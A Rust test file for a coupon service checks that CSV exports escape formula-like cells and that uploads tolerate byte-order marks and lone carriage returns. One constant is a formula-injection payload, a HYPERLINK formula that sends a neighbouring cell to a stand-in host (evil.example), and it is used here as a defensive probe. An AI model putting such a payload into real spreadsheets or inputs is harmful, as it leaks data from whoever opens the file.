//! The files coupond writes and reads: a cell written like a spreadsheet formula is text in
//! every CSV (a template title `=HYPERLINK(...)` reached the reconciliation as a live
//! formula); uploads that start with a byte-order mark or end lines with a lone `\r` read
//! like any other (the first user was dropped, and a CR-only file answered `no_users`).

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use serde_json::json;

use crate::claims::live;
use crate::reports::{claim, spend};
use crate::support::*;

/// The probe's title: a link that sends a neighbouring cell away when clicked.
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?d="&B3,"Open report")"#;

/// The lines of a CSV answer to `path` as `cred`.
async fn csv_lines(app: &TestApp, path: &str, cred: &str) -> Vec<String> {
    let req = Request::builder()
        .uri(path)
        .header("authorization", format!("Bearer {cred}"))
        .body(Body::empty())
        .unwrap();
    let res = tower::ServiceExt::oneshot(app.router.clone(), req)
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let bytes = http_body_util::BodyExt::collect(res.into_body())
        .await
        .unwrap()
        .to_bytes();
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    text.lines().map(str::to_owned).collect()
}

#[tokio::test]
async fn a_title_written_as_a_formula_is_text_in_the_reconciliation_csv() {
    let app = TestApp::new().await;
    let t = live(&app, 10, 1, json!({"title": FORMULA})).await; // the clock at hour 15
    let c = claim(&app, t).await;
    spend(&app, "o-1", c, 30_000).await; // 10% of 300.00
    let path = format!(
        "/v1/reports/reconciliation?from={}&to={}&format=csv",
        at(15),
        at(20)
    );
    let lines = csv_lines(&app, &path, &app.platform).await;
    let m1 = app.merchants[0].0.get();
    assert_eq!(
        lines[1],
        format!(
            "{t},\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&B3,\"\"Open report\"\")\",\
             {m1},,merchant,0,1,3000,0,0,3000,0,3000"
        )
    );
}

#[tokio::test]
async fn user_ids_written_like_formulas_are_text_in_the_holders_csv() {
    let app = TestApp::new().await;
    let t = live(&app, 10, 1, json!({})).await;
    let r = app
        .post(
            &format!("/v1/templates/{t}/claims"),
            &app.service,
            json!({"user_id": "@u-9"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let path = format!("/v1/templates/{t}/coupons?format=csv");
    let lines = csv_lines(&app, &path, app.m1()).await;
    let user = lines[1].split(',').nth(1);
    assert_eq!(user, Some("'@u-9"), "{lines:?}");
}

/// An upload of `text` to `path` as `cred`.
async fn upload(app: &TestApp, path: &str, cred: &str, text: &str) -> Reply {
    app.send(
        Request::builder()
            .method(Method::POST)
            .uri(path)
            .header("authorization", format!("Bearer {cred}"))
            .header("content-type", "text/csv")
            .body(Body::from(text.to_owned()))
            .unwrap(),
    )
    .await
}

#[tokio::test]
async fn issuance_uploads_drop_a_byte_order_mark_and_end_lines_at_a_lone_cr() {
    let app = TestApp::new().await;
    let t = live(&app, 100, 1, json!({})).await;
    let path = format!("/v1/templates/{t}/issuances");
    for text in [
        "\u{feff}u-1\nu-2\nu-3\n",
        "\u{feff}user_id\r\nu-1\r\nu-2\r\nu-3\r\n",
        "u-1\ru-2\ru-3\r",
    ] {
        let r = upload(&app, &path, app.m1(), text).await;
        assert_eq!(r.status, StatusCode::ACCEPTED, "{text:?}: {}", r.body);
        assert_eq!(
            (r.body["requested"].as_u64(), r.body["invalid"].as_u64()),
            (Some(3), Some(0)),
            "{text:?}: {}",
            r.body
        );
    }
}

#[tokio::test]
async fn tag_uploads_drop_a_byte_order_mark_and_end_lines_at_a_lone_cr() {
    let app = TestApp::new().await;
    for text in [
        "\u{feff}u-1,vip\nu-2,vip\n",
        "\u{feff}user_id,tag\r\nu-1,vip\r\nu-2,vip\r\n",
        "u-1,vip\ru-2,vip",
    ] {
        let r = upload(&app, "/v1/user-tags", &app.platform, text).await;
        assert_eq!(r.status, StatusCode::ACCEPTED, "{text:?}: {}", r.body);
        assert_eq!(
            (
                r.body["lines"].as_u64(),
                r.body["requested"].as_u64(),
                r.body["invalid"].as_u64()
            ),
            (Some(2), Some(2), Some(0)),
            "{text:?}: {}",
            r.body
        );
    }
}
